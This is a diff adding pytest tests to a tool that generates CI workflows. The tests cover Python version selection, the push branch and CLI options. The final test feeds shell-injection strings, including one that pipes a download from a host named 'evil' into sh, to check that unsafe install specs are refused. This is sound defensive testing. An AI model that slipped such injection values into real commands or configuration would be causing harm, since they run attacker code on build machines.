@@ -241,3 +241,76 @@ def test_zizmor_with_the_documented_tag_policy_reports_nothing(tmp_path: Path,
     )
     assert completed.returncode == 0, completed.stdout + completed.stderr
     assert json.loads(completed.stdout) == []
+
+
+# -- the project's branch, Python and install line -------------------------------------------
+
+
+def _python_versions(folder: Path) -> set[str]:
+    return {str(step["with"]["python-version"]) for workflow in load(folder).values()
+            for _, step in steps(workflow)
+            if str(step.get("uses", "")).startswith("actions/setup-python")}
+
+
+def _push_branches(folder: Path) -> set[str]:
+    found: set[str] = set()
+    for workflow in load(folder).values():
+        push = (workflow.get(True) or workflow.get("on") or {}).get("push") or {}
+        found.update(push.get("branches") or ())
+    return found
+
+
+@pytest.mark.parametrize(("requires", "expected"), [
+    pytest.param(">=3.13", "3.13", id="pretalx: >=3.13"),
+    pytest.param(">=3.9,<3.12", "3.11", id="an upper bound"),
+    pytest.param("~=3.10.0", "3.10", id="compatible release"),
+    pytest.param(">=3.10,!=3.13.*", "3.12", id="an excluded version"),
+    pytest.param(">=3.14", "3.12", id="none tested: the default"),
+    pytest.param("three", "3.12", id="not a specifier: the default"),
+    pytest.param(None, "3.12", id="no requires-python: the default"),
+])
+def test_the_workflows_run_a_python_the_project_admits(
+    tmp_path: Path, requires: str | None, expected: str,
+) -> None:
+    """pretalx requires Python 3.13; workflows on 3.12 failed its install silently."""
+    project = f'[project]\nname = "x"\nrequires-python = "{requires}"\n' if requires else ""
+    (tmp_path / "pyproject.toml").write_text(project)
+    folder = generate(tmp_path, 1)
+    assert _python_versions(folder) == {expected}
+
+
+def test_the_push_trigger_names_the_branch_checked_out(tmp_path: Path) -> None:
+    """pretalx's repository is on master: a push trigger on main never fired."""
+    repo = GitRepo(tmp_path)
+    repo.write("a.py", "x = 1\n")
+    repo.commit("first")
+    repo.git("branch", "-m", "master")
+    result = CliRunner().invoke(main, ["init", str(tmp_path), "--ci"])
+    assert result.exit_code == 0, result.output
+    assert "branch: master (the branch checked out)" in result.output
+    assert _push_branches(tmp_path / ".github" / "workflows") == {"master"}
+
+
+def test_the_options_win_and_are_shown(tmp_path: Path) -> None:
+    GitRepo(tmp_path)
+    result = CliRunner().invoke(main, [
+        "init", str(tmp_path), "--ci", "--branch", "trunk", "--python", "3.11",
+        "--install", "qualitytool[all] @ git+https://example.org/qualitytool.git@v0.1.0"])
+    assert result.exit_code == 0, result.output
+    assert "installs: qualitytool[all] @ git+https://example.org/qualitytool.git@v0.1.0 " \
+           "(given with --install)" in result.output
+    folder = tmp_path / ".github" / "workflows"
+    assert _python_versions(folder) == {"3.11"}
+    assert _push_branches(folder) == {"trunk"}
+    text = (folder / "qualitytool-exceptions.yml").read_text()
+    assert 'pip install "qualitytool[all] @ git+https://example.org/qualitytool.git@v0.1.0"' \
+        in text
+
+
+@pytest.mark.parametrize("spec", ['x"; curl evil | sh; "', "a$(id)", "a`id`", "a\\b", "a\nb"])
+def test_an_install_line_a_shell_would_read_is_refused(tmp_path: Path, spec: str) -> None:
+    GitRepo(tmp_path)
+    result = CliRunner().invoke(main, ["init", str(tmp_path), "--ci", "--install", spec])
+    assert result.exit_code == 2
+    assert "--install" in result.output
+    assert not (tmp_path / ".github").exists()
